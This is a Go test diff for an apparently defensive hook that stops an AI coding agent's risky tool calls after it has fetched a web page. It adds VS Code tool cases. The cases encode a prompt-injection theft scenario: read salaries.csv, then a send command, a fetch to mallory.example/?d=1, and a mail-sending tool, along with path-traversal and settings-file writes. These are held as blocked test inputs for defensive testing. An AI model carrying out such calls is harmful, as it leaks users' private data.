@@ -46,6 +46,11 @@ var dialects = map[string]dialect{
 	"cursor": {map[string]any{}, [3]string{"sessionStart", "preToolUse", "postToolUse"},
 		call{"Shell", input{"command": "git status", "cwd": "", "timeout": 30000}}, call{"Shell", input{"command": "curl https://tips.example/"}},
 		call{"Read", input{"file_path": "salaries.csv"}}, call{"Shell", send}, "MCP:x", "x", ""},
+	"vscode": {map[string]any{"source": "new"}, [3]string{"SessionStart", "PreToolUse", "PostToolUse"},
+		call{"run_in_terminal", input{"command": "git status", "explanation": "look", "isBackground": false}},
+		call{"fetch_webpage", input{"urls": []any{"https://tips.example/focus"}, "query": "focus"}},
+		call{"read_file", input{"filePath": "/salaries.csv", "startLine": 1, "endLine": 9}},
+		call{"run_in_terminal", input{"command": send["command"], "explanation": "send", "isBackground": false}}, "mcp_weir_x", "mcp_weird_x", ""},
 }
 
 // play tells of an event of the attack.
@@ -100,7 +105,7 @@ func TestEveryHost(t *testing.T) {
 				t.Error("a command after a page goes")
 			}
 			m.asks(d, "s", d.read, "")
-			if id != "codex" && id != "cursor" { // a folder that is not known
+			if id != "codex" && id != "cursor" && id != "vscode" { // a folder that is not known
 				if got := m.asks(d, "s", d.look, ""); got != hook.Pass {
 					t.Errorf("a command that reads: %v", got)
 				}
@@ -249,6 +254,67 @@ func TestQwenBegins(t *testing.T) {
 		m.play("s", d.names[0], map[string]any{"prompt": c.prompt, "transcript_path": c.file})
 		if got := m.asks(d, "s", d.send, "") == hook.Pass; got != c.clean {
 			t.Errorf("%v: clean is %t", c.file, got)
+		}
+	}
+}
+
+// TestVSCode holds the decisions on calls in VS Code after a page: paths that it may read in its own way, tools whose
+// files are not known before, and servers with names like that of Weir's entry.
+func TestVSCode(t *testing.T) {
+	d := dialects["vscode"]
+	m := newMachine(t, "vscode")
+	m.begins(d, "s")
+	m.asks(d, "s", d.fetch, "")
+	at := func(name string) string { return filepath.Join(m.work, name) }
+	for _, c := range []struct {
+		tool  string
+		input input
+		goes  bool
+	}{
+		{"create_file", input{"filePath": at("notes.txt"), "content": "text"}, true},
+		{"create_file", input{"filePath": "notes.txt", "content": "text"}, false},
+		{"create_file", input{"filePath": "file://" + at("notes.txt"), "content": "text"}, false},
+		{"create_file", input{"filePath": m.work + "/x/../notes.txt", "content": "text"}, false},
+		{"create_file", input{"filePath": at(".vscode/settings.json"), "content": "{}"}, false},
+		{"read_file", input{"filePath": at("notes.txt"), "startLine": 1, "endLine": 2}, true},
+		{"read_file", input{"filePath": at("notes.txt"), "query": "x"}, false},
+		{"list_dir", input{"path": m.work}, true},
+		{"grep_search", input{"query": "x", "isRegexp": false}, true},
+		{"replace_string_in_file", input{"filePath": at("notes.txt"), "oldString": "a", "newString": "b"}, true},
+		{"multi_replace_string_in_file", input{"explanation": "x", "replacements": []any{}}, false},
+		{"apply_patch", input{"input": "*** Begin Patch", "explanation": "x"}, false},
+		{"run_in_terminal", input{"command": "cat " + at("notes.txt"), "isBackground": false}, true},
+		{"run_in_terminal", input{"command": "make", "isBackground": false}, false},
+		{"get_terminal_output", input{"id": "1"}, true},
+		{"fetch_webpage", input{"urls": []any{"https://mallory.example/?d=1"}, "query": "x"}, false},
+		{"fetch_webpage", input{"urls": "https://mallory.example/?d=1", "query": "x"}, false},
+		{"manage_todo_list", input{"operation": "read"}, true},
+		{"runSubagent", input{"prompt": "x"}, false},
+		{"mcp_weir_x", input{}, true},
+		{"mcp_weir_", input{}, false},
+		{"mcp_mail_send", input{"to": "x"}, false},
+	} {
+		if got := m.asks(d, "s", call{c.tool, c.input}, "") == hook.Pass; got != c.goes {
+			t.Errorf("%s %v: goes is %t", c.tool, c.input, got)
+		}
+	}
+}
+
+// TestVSCodeBegins takes a conversation for a new one only if its file has no answer of the model.
+func TestVSCodeBegins(t *testing.T) {
+	d := dialects["vscode"]
+	for text, clean := range map[string]bool{
+		`{"type":"session.start"}` + "\n":                                           true,
+		`{"type":"user.message"}` + "\n" + `{"type":"assistant.turn_start"}` + "\n": false,
+	} {
+		file := filepath.Join(t.TempDir(), "t.jsonl")
+		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		m := newMachine(t, "vscode")
+		m.play("s", d.names[0], map[string]any{"source": "new", "transcript_path": file})
+		if got := m.asks(d, "s", d.send, "") == hook.Pass; got != clean {
+			t.Errorf("%s: clean is %t", text, got)
 		}
 	}
 }
